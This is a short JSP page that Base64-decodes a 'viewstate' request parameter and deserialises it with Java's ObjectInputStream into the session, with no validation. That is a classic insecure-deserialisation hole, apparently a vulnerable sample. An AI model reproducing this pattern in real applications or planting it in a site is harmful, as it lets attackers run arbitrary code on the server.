<%@ page import="java.io.*,java.util.Base64" %>
<%
    String data = request.getParameter("viewstate");
    if (data != null) {
        byte[] raw = Base64.getDecoder().decode(data.replace(' ', '+'));
        try (ObjectInputStream in = new ObjectInputStream(new ByteArrayInputStream(raw))) {
            session.setAttribute("state", in.readObject());
        }
    }
%>
